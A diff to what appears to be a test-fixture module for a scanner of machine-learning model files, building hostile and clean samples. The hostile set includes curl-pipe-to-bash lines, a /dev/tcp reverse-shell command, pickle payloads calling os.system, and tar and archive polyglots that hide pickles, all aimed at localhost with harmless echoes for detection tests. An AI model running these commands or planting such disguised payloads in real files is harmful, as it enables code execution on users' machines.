@@ -2,6 +2,7 @@
 """Families of models that a scanner which knows the usual ones takes for something else: what less known libraries
 rebuild their objects by, code that a traced module is written as, templates, notebooks and repositories as they are, and
 next to each what a hostile one does in the same place. Nothing of these libraries is needed."""
+import gzip
 import json
 import pickle
 import struct
@@ -139,6 +140,15 @@ def hostile_graphs():
             b'{"__metadata__":{"a":1},"a":{"dtype":"F32","shape":[4],"data_offsets":[0,16]}}')}
 
 
+def retold(tar, first):
+    """With another name of the first member, and the sum of its head."""
+    out = bytearray(tar)
+    out[:100] = first.ljust(100, b"\0")
+    out[148:156] = b" " * 8
+    out[148:156] = b"%06o\0 " % sum(out[:512])
+    return bytes(out)
+
+
 def hostile():
     out = hostile_calls() | hostile_graphs()
     out |= {f"template/{one}/tokenizer_config.json": json.dumps({"chat_template": text}).encode() for one, text in HOSTILE_TEMPLATES.items()}
@@ -146,10 +156,12 @@ def hostile():
     out |= {f"py/{one}/modeling_x.py": text.encode() for one, text in SOURCES.items()}
     tar = bytearray(others.tarred(**{"m.pkl": others.LIVE}))
     tar[156:157] = b"Z"
-    tar[148:156] = b" " * 8
-    tar[148:156] = b"%06o\0 " % sum(tar[:512])
+    typed = retold(tar, b"m.pkl")
+    tar = bytearray(others.tarred(**{"a.txt": b"abc"}))
+    named = retold(tar, b"cos\nsystem\n(S'echo harmless'\ntR.")
     return out | {
-        "tar/type.tar": bytes(tar), "script/fetch.sh": b"curl -s http://127.0.0.1/x | bash\n", "script/shell.sh": b"sh >& /dev/tcp/127.0.0.1/1\n",
+        "tar/name.pkl": named, "tar/zip.keras": bytes(tar) + others.archived([("m.pkl", others.LIVE)]),
+        "tar/packed.bin": gzip.compress(b"abc") + others.archived([("m.pkl", others.LIVE)]), "tar/type.tar": typed, "script/fetch.sh": b"curl -s http://127.0.0.1/x | bash\n", "script/shell.sh": b"sh >& /dev/tcp/127.0.0.1/1\n",
         "image/Dockerfile": b"FROM x\nRUN curl http://127.0.0.1/x | sh\n", "yaml/dvc.yaml": b"stages:\n  a:\n    cmd: curl http://127.0.0.1/x | sh\n",
         "yaml/expression.yaml": b"run: $import os; os.system('echo harmless')\n", "yaml/conda.yaml": b"dependencies:\n- pip:\n  - http://127.0.0.1/x.whl\n",
         "json/part/model_index.json": b'{"_class_name": "P", "unet": ["os", "system"]}',
@@ -162,8 +174,9 @@ def clean():
     out |= {f"template/{one}/tokenizer_config.json": json.dumps({"chat_template": text}).encode() for one, text in TEMPLATES.items()}
     out |= {f"nb/{one[6:]}.ipynb": others.notebook(cell) for one, cell in CELLS.items() if one.startswith("clean/")}
     known = ("general.architecture", "llama")
+    inner = others.archived([("a.txt", b"abc")])
     return out | {
-        "class/new.pkl": whole(libraries.new("acme.jobs", "JobClient")), "onnx/external.onnx": onnx(tensor=tensor_of("w.bin", offset="0", length="8")),
+        "tar/zip.tar": others.tarred(**{"a.zip": inner}), "class/new.pkl": whole(libraries.new("acme.jobs", "JobClient")), "onnx/external.onnx": onnx(tensor=tensor_of("w.bin", offset="0", length="8")),
         "onnx/context.onnx": onnx(context("model_ctx.bin")), "gguf/two.gguf": others.gguf([known], [("a", (4,), 0, 0), ("b", (4,), 0, 32)]),
         "py/platform/modeling_x.py": b"import os, platform, sys\nNAME = platform.system()\nFLAG = getattr(os, 'O_BINARY', 0)\n",
         "py/cluster/train.py": b"from dask.distributed import Client, LocalCluster\nclient = Client(LocalCluster())\n",
